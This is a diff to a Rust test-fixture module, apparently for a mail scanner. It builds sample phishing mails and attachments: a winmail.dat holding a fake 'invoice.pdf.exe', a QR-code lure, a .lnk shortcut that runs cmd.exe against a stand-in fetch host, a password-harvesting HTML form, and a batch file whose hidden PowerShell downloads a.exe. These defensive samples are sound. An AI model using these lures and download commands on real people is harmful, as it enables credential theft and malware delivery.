@@ -2,7 +2,7 @@
 
 use super::outlook::Outlook;
 use super::zip::{File, zip};
-use super::{le, ooxml};
+use super::{le, lnk, ooxml, picture};
 
 /// The word that [`locked_workbook`] is locked with.
 pub const PASSWORD: &str = "Aoba-2217";
@@ -70,4 +70,109 @@ pub fn item_with_locked_workbook(lock: Lock) -> Vec<u8> {
         .text(0x1000, &text)
         .file("請求明細.zip", "application/zip", &locked_workbook(lock))
         .msg()
+}
+
+/// A mail as Outlook sends it to others: a text, and `winmail.dat` with the text as it should look and the files.
+#[must_use]
+pub fn mail_with_winmail() -> Vec<u8> {
+    let program = [b"MZ\x90\0".as_slice(), &[0; 200]].concat();
+    let tnef = Outlook::note("Invoice")
+        .text(
+            0x1000,
+            "Please pay at once:\r\nhttps://pay.hidden.example/now\r\n",
+        )
+        .file(
+            "invoice.zip",
+            "application/zip",
+            &zip(&[File::new("invoice.pdf.exe", &program)]),
+        )
+        .tnef();
+    format!(
+        "From: Mikan <billing@mikan-shoji.example>\r\nTo: reader@example.jp\r\nSubject: Invoice\r\n\
+         Date: Mon, 16 Nov 2026 09:00:00 +0900\r\nMessage-ID: <w@mikan-shoji.example>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=part\r\n\r\n--part\r\nContent-Type: text/plain\r\n\r\n\
+         The invoice is attached.\r\n--part\r\nContent-Type: application/ms-tnef; name=\"winmail.dat\"\r\n\
+         Content-Disposition: attachment; filename=\"winmail.dat\"\r\n\
+         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--part--\r\n",
+        base64(&tnef)
+    )
+    .into_bytes()
+}
+
+/// A mail whose text draws a QR code with block letters, or with the cells of a table.
+#[must_use]
+pub fn mail_with_drawn_code(url: &str, html: bool) -> Vec<u8> {
+    let modules = picture::code(url.as_bytes());
+    let cell = |dark: &bool| {
+        let colour = if *dark { "#000000" } else { "#ffffff" };
+        format!("<td style=\"background:{colour}\"></td>")
+    };
+    let row =
+        |row: &Vec<bool>| format!("<tr>{}</tr>\r\n", row.iter().map(cell).collect::<String>());
+    let (kind, drawn) = if html {
+        let rows: String = modules.iter().map(row).collect();
+        (
+            "html",
+            format!("<p>Scan this code.</p><table cellspacing=0>{rows}</table>"),
+        )
+    } else {
+        (
+            "plain",
+            format!("Scan this code.\r\n\r\n{}", picture::half_blocks(&modules)),
+        )
+    };
+    format!(
+        "From: Mikan <news@mikan-shoji.example>\r\nTo: reader@example.jp\r\nSubject: Sign in again\r\n\
+         Date: Mon, 16 Nov 2026 09:00:00 +0900\r\nMessage-ID: <q@mikan-shoji.example>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: text/{kind}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{drawn}\r\n"
+    )
+    .into_bytes()
+}
+
+/// Files that some mail brought, saved by themselves: name, content, and the check that finds something in it;
+/// nothing is to be found in the last ones.
+#[must_use]
+pub fn files_alone() -> Vec<(&'static str, Vec<u8>, Option<&'static str>)> {
+    let shortcut = lnk::Lnk {
+        path: "C:\\Windows\\System32\\cmd.exe",
+        arguments: "/c start https://fetch.hidden.example/a",
+        minimised: true,
+        ..lnk::Lnk::default()
+    };
+    let page = "<html><body><form action=\"https://collect.hidden.example/in\">Sign in: \
+                <input type=password name=p></form></body></html>";
+    let script = "@echo off\r\npowershell -w hidden -c iwr https://fetch.hidden.example/a -OutFile a.exe\r\n";
+    let quiet = zip(&[File::new("minutes.txt", b"The minutes of Monday.")]);
+    vec![
+        ("請求明細.xlsm", workbook(), Some("macro-office")),
+        ("請求明細.zip", zip(&[File::new("請求明細.xlsm", &workbook())]), Some("macro-office")),
+        ("invoice.pdf.lnk", shortcut.build(), Some("executable-attachment")),
+        ("voice message.html", page.into(), Some("html-attachment")),
+        ("setup.bat", script.into(), Some("executable-attachment")),
+        ("minutes.zip", quiet, None),
+        ("page.htm", b"<html><body><p>The minutes of Monday are on the server, as always. Ask Hanako if something is missing.</p></body></html>".to_vec(), None),
+        ("noise.bin", vec![0; 300], None),
+    ]
+}
+
+/// `bytes` in base64, in lines.
+#[must_use]
+pub fn base64(bytes: &[u8]) -> String {
+    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for (count, three) in bytes.chunks(3).enumerate() {
+        if count > 0 && count % 19 == 0 {
+            out.push_str("\r\n");
+        }
+        let bits = three
+            .iter()
+            .fold(0_u32, |bits, b| bits << 8 | u32::from(*b))
+            << (8 * (3 - three.len()));
+        for place in 0..4 {
+            let digit = DIGITS.get((bits >> (18 - 6 * place) & 63) as usize);
+            let digit = digit.filter(|_| place <= three.len());
+            out.push(digit.map_or('=', |digit| char::from(*digit)));
+        }
+    }
+    out
 }
